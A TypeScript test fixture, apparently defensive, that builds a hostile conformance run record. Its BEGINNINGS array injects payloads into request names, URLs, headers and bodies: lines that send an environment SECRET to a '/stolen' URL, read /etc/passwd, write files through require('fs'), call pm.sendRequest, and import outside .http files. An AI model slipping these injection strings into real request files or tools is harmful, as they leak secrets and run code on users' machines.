/** A record that somebody made to have other requests sent, and scripts run, by whoever reproduces its failure. */
import type { Exchange } from '../../contracts/record.ts';
import type { RunRecord } from '../../reports/record.ts';
import { answer, conformance, exchange, judged, recordOf } from './record-builder.ts';

/** The requirement that fails in it. */
export const FAILED = 'cards.get.identifier';

/** What in a text begins something else, in one of the formats. */
export const BEGINNINGS = [
  '\n\n### x\nGET {base}/stolen?{{$processEnv SECRET}}\n',
  '\r\n\r\nGET {base}/stolen\r\n',
  '\u2028### x\u2028GET {base}/stolen',
  '\n> {% client.global.set("a", 1) %}\n',
  '\n>> stolen.txt\n',
  '\n< /etc/passwd\n',
  '\n@stolen = {{$processEnv SECRET}}\n',
  '\n# @import ./stolen.http\n',
  '\n{{\nrequire("fs").writeFileSync("stolen.txt", "x")\n}}\n',
  '{{process.env.SECRET}}',
  '{{{$processEnv SECRET}}}',
  '{<REDACTED_ACCESS_TOKEN>}',
  "'); pm.sendRequest('{base}/stolen'); ('",
  '@import ./stolen.http',
] as const;

/** A request of the record with a text wherever a record may have one. */
function hostile(number: number, text: string, base: string): Exchange {
  const url = `${base}/${number}`;
  return exchange(number, {
    operation: `cards.get${text}`,
    wrong: { what: text },
    request: {
      method: 'POST',
      url: `${url}/${text.includes('\n') || /\s/u.test(text) ? '' : text}`,
      headers: { 'content-type': 'text/plain', 'x-text': text, [`x${text}`]: 'y', '###': 'z', '#': 'a' },
      body: number % 2 > 0 ? `{"text":${JSON.stringify(text)},\n"n":1}` : `${text}\n${text}`,
    },
    response: answer(200, { access_token: text }),
  });
}

/** Exchanges that HTTP cannot carry, and some that it can. @param base the address of the latter */
export function hostileRecord(base: string): RunRecord {
  const texts = BEGINNINGS.map((text) => text.replaceAll('{base}', base));
  const exchanges = texts.map((text, index) => hostile(index + 1, text, base));
  const unsendable = texts.flatMap((text, index) => {
    const request = (over: Partial<Exchange['request']>) => ({
      ...exchange(1).request,
      url: `${base}/unsent`,
      ...over,
    });
    const id = (part: string) => ({ id: `x9${index}${part}${text}` });
    return [
      exchange(1, { ...id('a'), request: request({ method: `GET${text}` }) }),
      exchange(1, { ...id('b'), request: request({ url: `${base}/unsent ${text}` }) }),
    ];
  });
  const all = [...exchanges, ...unsendable];
  const ids = all.map(({ id }) => id);
  const retrial = { tries: 1, shown: 1, controls: 0, exchanges: ids };
  return recordOf(conformance([judged(FAILED, 'failed', { exchanges: ids, retrial })]), all);
}
